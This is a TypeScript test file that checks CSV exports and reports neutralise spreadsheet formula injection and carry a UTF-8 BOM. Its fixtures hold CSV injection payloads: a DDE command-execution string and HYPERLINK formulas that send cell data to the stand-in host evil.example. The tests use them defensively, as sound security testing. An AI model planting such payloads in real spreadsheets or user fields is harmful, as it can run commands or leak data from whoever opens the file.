/**
 * Exports and report CSVs open safely in a spreadsheet: formula cells are defused (OWASP CSV injection) and the file
 * starts with a UTF-8 BOM so that Excel shows "Montréal". The database's gh_csv_field (exports) and the shared
 * csvField (reports, headers) write the same field for any text.
 */
import { withTenantTx } from '@guildhall/db';
import { createUser } from '@guildhall/db/seed/factories';
import { csvField, EXPORT_TOP, type ListResponse, UTF8_BOM } from '@guildhall/shared';
import { sql } from 'drizzle-orm';
import fc from 'fast-check';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  client,
  seedTenant,
  signIn,
  type TenantWithUsers,
  type TestContext,
  testApp,
  unique,
} from './helpers.ts';

let ctx: TestContext;
let t: TenantWithUsers;
let api: ReturnType<typeof client>;

const attacks = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  '+SUM(1,2)',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
];

beforeAll(async () => {
  ctx = await testApp();
  t = await seedTenant(ctx.database);
  api = client(ctx.app, (await signIn(ctx.app, t.admin)).cookie);
});
afterAll(() => ctx.close());

/** Parses a CSV body (after its BOM) into rows of cells. */
function cells(body: string): string[][] {
  expect(body.startsWith(UTF8_BOM)).toBe(true);
  return Papa.parse<string[]>(body.slice(1), { skipEmptyLines: true }).data;
}

describe('CSV files', () => {
  it('export: defuses formula cells, keeps plain numbers and accents, starts with the BOM', async () => {
    const names = [...attacks, 'Montréal', '-12.50'];
    await withTenantTx(ctx.database.db, { tenantId: t.tenant.id }, async (tx) => {
      for (const [i, name] of names.entries())
        await tx.execute(
          sql`insert into samples (tenant_id, name, price, status) values (${t.tenant.id}, ${name}, ${i}, 'open')`,
        );
    });
    const res = await api.post(
      `/api/setup/samples/sampleData?$skip=0&$top=${EXPORT_TOP}&$orderby=Price asc`,
      {
        ColumnsToShow: ['Name', 'Price'],
      },
    );
    expect(res.statusCode, res.body).toBe(200);
    const id = (res.json() as ListResponse).PendingDownloadFileId;
    let ready = await api.get(`/api/files/ready/${id}`);
    for (let i = 0; i < 100 && ready.statusCode !== 200; i++) {
      await ctx.app.worker.drain(t.tenant.id);
      await new Promise((r) => setTimeout(r, 50));
      ready = await api.get(`/api/files/ready/${id}`);
    }
    expect(ready.statusCode).toBe(200);
    const file = await api.post(`/api/files/download/${id}`);
    const rows = cells(file.body);
    expect(rows[0]).toEqual(['Id', 'Name', 'Price']);
    const written = rows.slice(1).map((r) => r[1]);
    expect(written).toEqual([...attacks.map((a) => `'${a}`), 'Montréal', '-12.50']);
  });

  it('report CSV: defuses formula cells and starts with the BOM', async () => {
    await createUser(ctx.database.db, {
      tenantId: t.tenant.id,
      username: unique('formula.'),
      password: 'formula-password-2026',
      role: 'staff',
      displayName: '=HYPERLINK("http://evil.example","Montréal")',
    });
    const res = await api.post('/api/reportExecution/run/users.staff?format=csv', {});
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toContain('text/csv');
    const rows = cells(res.body);
    const names = rows.slice(1).map((r) => r[0]);
    expect(names).toContain(`'=HYPERLINK("http://evil.example","Montréal")`);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]/);
  });

  it('writes the same field in the database as in TypeScript, for any text', async () => {
    const text = fc.string({ unit: 'grapheme', maxLength: 12 }).filter((s) => !s.includes('\u0000'));
    const formulaish = fc
      .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '-1', ''), text)
      .map(([a, b]) => a + b);
    const samples = fc.sample(fc.oneof(text, formulaish), 300);
    const r = await ctx.database.db.execute(
      sql`select v, gh_csv_field(v) as f from jsonb_array_elements_text(${JSON.stringify(samples)}::jsonb) as v`,
    );
    const rows = (r as unknown as { rows: { v: string; f: string }[] }).rows;
    expect(rows.length).toBe(samples.length);
    for (const row of rows) expect(row.f, JSON.stringify(row.v)).toBe(csvField(row.v));
  });
});
